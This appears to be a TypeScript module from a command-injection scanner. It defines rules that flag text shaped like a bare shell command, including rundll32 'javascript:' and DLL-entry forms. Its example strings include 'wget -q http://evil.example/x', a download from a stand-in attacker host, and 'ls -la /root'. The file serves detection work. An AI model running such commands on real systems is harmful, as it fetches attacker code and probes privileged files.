import { SURE, word, WORD_TEXT, wordsOf } from "../keywords.ts";
import type { Pattern } from "../pattern.ts";
import {
  argumentKind,
  BEGINNING,
  commandContext,
  EXPANSION,
  FILE,
  hasProgramPath,
  nameEndsAt,
  OPTION,
  PATH,
  PLAIN_WORD,
  URL,
} from "../shell_grammar.ts";
import { NUMBER, type Tokens, WORD } from "../tokens.ts";
import { hasArgument, isKnownPath, PROGRAMS, VERBS } from "./program_words.ts";

const BUSYBOX = word("busybox"), RUNDLL = word("rundll32");

/** SURE, but numbers and signs stand behind them in other texts. */
const NO_LINE = new Set(
  ["reg", "printf", "attrib", "hostname", "mkdir", "rmdir", "xxd", "uptime", "wg", "ufw"].map(word),
);

/** A command line without anything before it, of a program that no text names otherwise. */
function isCommandLine(t: Tokens, i: number): boolean {
  if (commandContext(t, i) !== BEGINNING) return false;
  const behind = nameEndsAt(t, i);
  if (t.word[i] === BUSYBOX && hasProgramPath) return t.kind[behind] === WORD && t.spaced(behind);
  if (NO_LINE.has(t.word[i] as number)) return false;
  const argument = argumentKind(t, behind, BEGINNING);
  // rundll32 x.dll,Entry
  if (argument === FILE && t.word[i] === RUNDLL) return t.kind[behind + 3] === 0x2c;
  // rundll32 javascript:…
  if (t.word[i] === RUNDLL && t.kind[behind] === WORD) return t.kind[behind + 1] === 0x3a && t.glued(behind + 1);
  if (argument === PLAIN_WORD) {
    return VERBS.get(t.word[i] as number)?.has(t.word[behind] as number) === true || hasArgument(t, behind + 1);
  }
  // A negative number is no option.
  if (argument === OPTION) return t.kind[behind + 1] !== NUMBER;
  // In base64, `+` and `/` are letters.
  if (argument === PATH && t.end[i]! - t.start[i]! <= 3 && !isKnownPath(t, behind)) return false;
  return argument === URL || (argument === PATH && t.kind[behind] !== 0x2a) ||
    argument === EXPANSION;
}

/** A command at the beginning of the text, or anywhere in it, that is dangerous whatever comes before. */
function isBeginning(t: Tokens, i: number): boolean {
  if (commandContext(t, i) !== BEGINNING) return false;
  const behind = nameEndsAt(t, i);
  const argument = argumentKind(t, behind, BEGINNING);
  return argument === OPTION || argument === PATH || argument === URL || argument === EXPANSION;
}

/** A text that is a command line from its beginning. */
export const LINES = {
  sure: {
    name: "cmd-line",
    category: "command-injection",
    severity: "medium",
    catches: "A text that is the command line of a program which no sentence names",
    example: "wget -q http://evil.example/x",
    nearMiss: "curl 7.88.1, hostname - a",
    at: wordsOf(SURE).filter((number) => (WORD_TEXT[number] as string).length > 3),
    test: isCommandLine,
  },
  sureShort: {
    name: "cmd-line-short",
    category: "command-injection",
    severity: "medium",
    weak: true,
    catches:
      "The same with a name of at most three letters: a text that is the command line of a program which no sentence names",
    example: "ls -la /root",
    nearMiss: "mv -5 cp 7 rm: gone",
    at: wordsOf(SURE).filter((number) => (WORD_TEXT[number] as string).length <= 3),
    gate: "separator",
    test: isCommandLine,
  },
  beginning: {
    name: "cmd-beginning",
    category: "command-injection",
    severity: "low",
    catches: "A text that begins like a command line",
    example: "ping -c 4 10.0.0.1",
    nearMiss: "find the leak",
    at: PROGRAMS,
    gate: "separator",
    test: isBeginning,
  },
} as const satisfies Readonly<Record<string, Pattern>>;
